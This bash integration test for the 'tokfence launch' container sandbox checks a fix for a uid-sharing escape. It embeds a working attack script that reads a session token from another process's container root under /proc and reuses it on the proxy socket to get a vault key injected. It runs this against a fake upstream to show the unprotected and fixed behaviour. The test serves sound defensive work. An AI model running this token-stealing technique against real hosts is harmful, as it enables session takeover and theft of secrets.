#!/usr/bin/env bash
# Escape class: another local user takes a `tokfence launch` session from outside the fence by
# sharing the container's uid (review 12b F7). Rootful Docker without userns-remap runs the
# container's processes as the host uid of its User, dumpable; for the kernel a host process of
# that uid and the agent are the same user, so it reads /proc/<pid>/root/tokfence/config/openclaw.json
# (the session token: OpenClaw's apiKey) and connects to /proc/<pid>/root/run/tokfence/proxy.sock,
# where the daemon injects the vault key for that token. It can also signal or ptrace the agent.
#
# Before: launch as root ran the container as 1000:1000, the first login account on nearly every
# machine (here whoever uid 1000 is): that user, in no group and outside any fence, got a 200 with
# the vault key injected upstream. Expected now: as root with no --user, the container runs as an
# id no host account or group has (the first free one in Debian's reserved 65000..65533, in no
# /etc/subuid or /etc/subgid range), so uid 1000 cannot open /proc/<pid>/root and no request
# reaches the upstream; a state home left owned by uid 1000 by an earlier launch is refused (with
# what to do), never chowned.
#
# Unprotected set-up first: the same launch given `--user 1000:1000` explicitly (which launch now
# warns about) IS taken over by uid 1000: the attack below is live.
source "$(dirname "$0")/../integration/lib.sh"
[[ $(id -u) -eq 0 ]] || skip "needs root: the finding is about launch run as root"
command -v setpriv >/dev/null || skip "setpriv (util-linux) missing"
source "$SOURCE_DIR/tests/images/launch_lib.sh"

launch_test_setup
start_daemon
attacker=1000
name="tfuid-$RUN_ID"
name2="tfuid2-$RUN_ID"
# A failed check must not leave a detached launch's host side behind.
EXTRA_CLEANUP="'$TOKFENCE_BIN' launch stop --name '$name' >/dev/null 2>&1; '$TOKFENCE_BIN' launch stop --name '$name2' >/dev/null 2>&1; $EXTRA_CLEANUP"

# Run as uid/gid $attacker with no groups against the container's first process (host pid $1; a
# real attacker finds it by scanning /proc for processes of its own uid). Prints
# "token=<yes|no> http=<code|none>".
attack_script=$(cat <<'SH'
root=/proc/$1/root
tok=$(sed -n 's/.*"apiKey": "\([^"]*\)".*/\1/p' "$root/tokfence/config/openclaw.json" 2>/dev/null | head -1)
code=none
if [ -S "$root/run/tokfence/proxy.sock" ] 2>/dev/null; then
  code=$(curl -s -m 10 -o /dev/null -w '%{http_code}' --unix-socket "$root/run/tokfence/proxy.sock" \
    http://localhost/openai/v1/chat/completions -H "Authorization: Bearer $tok" -H 'Content-Type: application/json' \
    -d '{"model":"gpt-4o-mini","messages":[{"role":"user","content":"hi from another uid"}]}' 2>/dev/null || true)
fi
if [ -n "$tok" ]; then got=yes; else got=no; fi
echo "token=$got http=$code"
SH
)
attack() {
  (cd / && setpriv --reuid="$attacker" --regid="$attacker" --clear-groups bash -c "$attack_script" _ "$1" </dev/null 2>&1 || true)
}
# How many requests reached the fake upstream carrying the vault key.
key_uses() { curl -s "$FAKE_URL/__fake/requests" | jq -r '.[].headers.authorization // ""' | grep -cF -- "$CANARY" || true; }
start_detached() {
  tf launch --image "$TEST_IMAGE" --no-pull --name "$1" --detach "${@:2}" -- /bin/sleep 600
  [[ $TF_RC -eq 0 ]] || die "detached launch $1 failed: $TF_ERR"
}

# --- unprotected: the container shares uid 1000 with a host user
start_detached "$name" --user "$attacker:$attacker"
warned=$TF_ERR
curl -s -X DELETE "$FAKE_URL/__fake/requests" >/dev/null
out=$(attack "$(docker inspect -f '{{.State.Pid}}' "$name")")
log "unprotected (--user $attacker:$attacker): uid $attacker outside the fence: $out"
expect_eq "$out" "token=yes http=200" "unprotected set-up: uid $attacker takes the session"
expect_eq "$(key_uses)" 1 "unprotected set-up: the vault key was injected for uid $attacker"
tf_ok launch stop --name "$name"
state_home="$TOKFENCE_HOME/openclaw/$name/home"
expect_eq "$(stat -c %u "$state_home")" "$attacker" "kept state home of the --user launch"

# --- tokfence launch as root, no --user: an id no host account has
start_detached "$name2"
curl -s -X DELETE "$FAKE_URL/__fake/requests" >/dev/null
pid=$(docker inspect -f '{{.State.Pid}}' "$name2")
out=$(attack "$pid")
log "launch as root: uid $attacker outside the fence: $out"
expect_eq "$out" "token=no http=none" "uid $attacker against the launch"
expect_eq "$(key_uses)" 0 "requests with the vault key after the attack"
user=$(launch_container_user "$name2")
uid=${user%%:*} gid=${user#*:}
log "container user: $user"
expect_eq "$user" "$(launch_default_ids)" "the container's ids"
((uid >= 65000 && uid <= 65533)) || die "container uid $uid outside 65000..65533"
expect_eq "$gid" "$uid" "gid = uid"
if getent passwd "$uid" >/dev/null; then die "container uid $uid is a host account"; fi
if getent group "$gid" >/dev/null; then die "container gid $gid is a host group"; fi
expect_eq "$(stat -c %u "$TOKFENCE_HOME/openclaw/$name2/home")" "$uid" "state home owner"
expect_eq "$(stat -c %u "/proc/$pid")" "$uid" "the container's first process runs as $uid on the host"
expect_contains "$(container_chat "$name2")" '"content":"pong"' "the agent's own requests still work"
tf_ok launch stop --name "$name2"
expect_nothing_left "$name2"

# --- the state home uid 1000 kept from the first launch: refused with what to do, not chowned
listing_before=$(find "$state_home" -printf '%p %u %g\n' | sort)
tf launch --image "$TEST_IMAGE" --no-pull --name "$name" --detach -- /bin/sleep 600
expect_eq "$TF_RC" 1 "launch over a state home owned by uid $attacker: $TF_ERR"
expect_contains "$TF_ERR" "$state_home belongs to uid $attacker"
expect_contains "$TF_ERR" "--user $attacker:$attacker"
expect_contains "$TF_ERR" "mv $state_home"
expect_eq "$(find "$state_home" -printf '%p %u %g\n' | sort)" "$listing_before" "the kept state home is untouched"
expect_nothing_left "$name"
# Knowingly: --user keeps using it.
start_detached "$name" --user "$attacker:$attacker"
tf_ok launch stop --name "$name"
# --user naming a host account is allowed, with a warning.
if getent passwd "$attacker" >/dev/null; then
  expect_contains "$warned" "launch: warning: --user $attacker:$attacker: uid $attacker is the host account" "warning for --user of a host account"
fi
